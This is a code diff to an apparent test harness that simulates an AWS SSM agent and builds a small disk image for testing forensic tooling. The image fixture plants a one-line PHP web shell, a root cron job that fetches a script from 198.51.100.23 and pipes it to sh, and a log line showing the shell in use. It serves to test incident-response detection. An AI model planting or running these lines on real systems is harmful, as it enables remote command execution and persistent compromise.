@@ -181,8 +181,9 @@ class SsmExecutor:
     """Plays the SSM agent: runs every AWS-RunShellScript command sent to moto with bash on this
     machine (moto records commands but never runs them)."""
 
-    def __init__(self):
+    def __init__(self, disk_image=None):
         import threading
+        self.disk_image = disk_image
         self.seen = set()
         self.stop = threading.Event()
         self.results = []
@@ -209,13 +210,55 @@ class SsmExecutor:
                     continue
                 self.seen.add(c["CommandId"])
                 script = "\n".join(c["Parameters"]["commands"])
+                env = dict(os.environ)
+                if self.disk_image:
+                    env.update(self.worker_env(c["InstanceIds"][0]))
                 p = subprocess.run(["bash", "-c", script], capture_output=True, text=True,
-                                   timeout=300)
+                                   timeout=300, env=env)
                 self.results.append((c["CommandId"], p.returncode, p.stderr[-2000:]))
                 if p.returncode:
                     sys.stderr.write("executor: command %s failed %d: %s\n" %
                                      (c["CommandId"], p.returncode, p.stderr[-2000:]))
             time.sleep(0.1)
+
+
+    def worker_env(self, instance):
+        """A forensic worker: its attached volumes appear under CASEFILE_SIM_ROOT as the
+        device names (sdX, xvdX, the Nitro by-id link), all backed by the disk image."""
+        ec2 = client("ec2")
+        vols = ec2.describe_volumes(Filters=[{"Name": "attachment.instance-id",
+                                              "Values": [instance]}])["Volumes"]
+        root = tempfile.mkdtemp(prefix="cf-sim-")
+        os.makedirs(os.path.join(root, "dev", "disk", "by-id"))
+        for v in vols:
+            for a in v["Attachments"]:
+                dev = a["Device"]
+                if not dev.startswith("/dev/sd") or dev == "/dev/sda1":
+                    continue
+                os.symlink(self.disk_image, root + dev)
+                os.symlink(self.disk_image, root + dev.replace("/dev/sd", "/dev/xvd"))
+                os.symlink(self.disk_image, os.path.join(
+                    root, "dev", "disk", "by-id",
+                    "nvme-Amazon_Elastic_Block_Store_vol" + v["VolumeId"][4:]))
+        return {"CASEFILE_SIM_ROOT": root,
+                "PATH": os.environ["CF_BIN_DIR"] + ":" + os.environ.get("PATH", "")}
+
+
+def make_disk_image(tmp):
+    """A small ext4 image with a web shell and a cron entry (mke2fs -d, no root needed)."""
+    src = os.path.join(tmp, "rootfs")
+    for d in ("etc/cron.d", "var/www/html/uploads", "var/log/nginx", "root"):
+        os.makedirs(os.path.join(src, d), exist_ok=True)
+    with open(os.path.join(src, "var/www/html/uploads/shell.php"), "w") as f:
+        f.write("<?php system($_GET['c']); ?>\n")
+    with open(os.path.join(src, "etc/cron.d/update"), "w") as f:
+        f.write("* * * * * root curl -s http://198.51.100.23/x | sh\n")
+    with open(os.path.join(src, "var/log/nginx/access.log"), "w") as f:
+        f.write('198.51.100.23 - - [27/Nov/2026:19:56:00 +0000] "GET /uploads/shell.php?c=id '
+                'HTTP/1.1" 200 12 "-" "curl/8.0"\n')
+    img = os.path.join(tmp, "disk.img")
+    subprocess.run(["mke2fs", "-q", "-t", "ext4", "-d", src, img, "16M"], check=True)
+    return img
 
 
 def agent_dir():
